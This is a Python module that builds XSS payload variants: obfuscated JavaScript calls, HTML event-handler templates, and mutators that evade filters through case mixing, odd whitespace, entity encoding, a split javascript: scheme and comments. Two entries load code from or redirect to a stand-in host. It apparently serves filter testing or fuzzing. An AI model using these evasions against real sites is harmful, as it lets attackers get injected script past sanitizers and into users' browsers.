"""Markup and script that run the same, written otherwise."""

import re

CALLS = (
    "alert(1)",
    "confirm(1)",
    "prompt(1)",
    "alert`1`",
    "window['alert'](1)",
    "self['al'+'ert'](1)",
    "top[/al/.source+/ert/.source](1)",
    "(alert)(1)",
    "[1].map(alert)",
    "\\u0061lert(1)",
    "eval('al'+'ert(1)')",
    "import('//e.example/x')",
    "location='//e.example'",
    "setTimeout('alert(1)')",
    "Function('alert(1)')()",
    "globalThis.alert?.(1)",
)

ELEMENTS = (
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>x</marquee>",
    "<audio src=x onerror={}>",
    "<iframe onload={}></iframe>",
    "<select autofocus onfocus={}></select>",
    "<div onpointerover={}>x</div>",
    "<style onload={}></style>",
    "<a href=javascript:{}>x</a>",
    "<script>{}</script>",
)

CALL = re.compile("|".join(map(re.escape, sorted(CALLS, key=len, reverse=True))))
ELEMENT = re.compile("|".join(re.escape(each).replace(r"\{\}", "(.+?)") for each in ELEMENTS))


def other_call(text, dice):
    return CALL.sub(lambda _: dice.choice(CALLS), text, count=1)


def other_element(text, dice):
    def anew(found):
        code = next(group for group in found.groups() if group)
        return dice.choice(ELEMENTS).format(code)

    return ELEMENT.sub(anew, text, count=1)


def mixed_case(text, dice):
    """Names of elements and attributes in any case; code keeps its own."""
    return re.sub(
        r"(?<=<)/?[a-z]+|(?<=[\s/])on[a-z]+(?==)|javascript(?=:)",
        lambda m: "".join(dice.choice((c.lower(), c.upper())) for c in m[0]),
        text,
        flags=re.IGNORECASE,
    )


def other_gap(text, dice):
    """Between the attributes."""
    return re.sub(
        r"(?<=[a-z\"'])[ /\t\n\f]+(?=[a-z]+=)",
        lambda _: dice.choice(("/", "\t", "\n", "\f", " \r\n", "//", "/x/", " x=1 ")),
        text,
        count=1,
        flags=re.IGNORECASE,
    )


def gap_before_equals(text, dice):
    return re.sub(
        r"(?<=\w)(?:\s*)=(?=[^=])", dice.choice((" =", "\n=", "\t=", "= ")), text, count=1
    )


def quoted(text, dice):
    """The value of the handler in quotes."""
    sign = dice.choice("\"'")
    return re.sub(
        r"(on\w+\s*=\s*)([^\s\"'>]+)(?=>)",
        lambda m: m[0] if sign in m[2] else f"{m[1]}{sign}{m[2]}{sign}",
        text,
        count=1,
        flags=re.IGNORECASE,
    )


def entities(text, dice):
    """A letter of the code as a reference, in an attribute."""
    found = re.search(r"(?:on\w+\s*=\s*[\"']?|href=[\"']?)([^>]*)", text, re.IGNORECASE)
    if not found or not found[1].strip("\"'"):
        return text
    at = dice.randrange(found.start(1), found.end(1))
    sign = text[at]
    if not sign.isalpha() or text.rfind("&", 0, at) > text.rfind(";", 0, at):
        return text
    shown = dice.choice((f"&#{ord(sign)};", f"&#x{ord(sign):x};", f"&#0{ord(sign)};"))
    return text[:at] + shown + text[at + 1 :]


def split_scheme(text, dice):
    """Line breaks and tabs in ``javascript:``, which browsers skip."""
    return re.sub(
        r"javascript:",
        lambda m: m[0][:4] + dice.choice(("&Tab;", "&NewLine;", "&#9;", "\t")) + m[0][4:],
        text,
        count=1,
        flags=re.IGNORECASE,
    )


def remark(text, dice):
    """A remark in the code."""
    return re.sub(r"\((?=1\))", dice.choice(("(/**/", "(/*x*/", "(\t")), text, count=1)


MUTATORS = (
    *(other_call, other_element, mixed_case, other_gap, gap_before_equals, quoted, entities),
    *(split_scheme, remark),
)
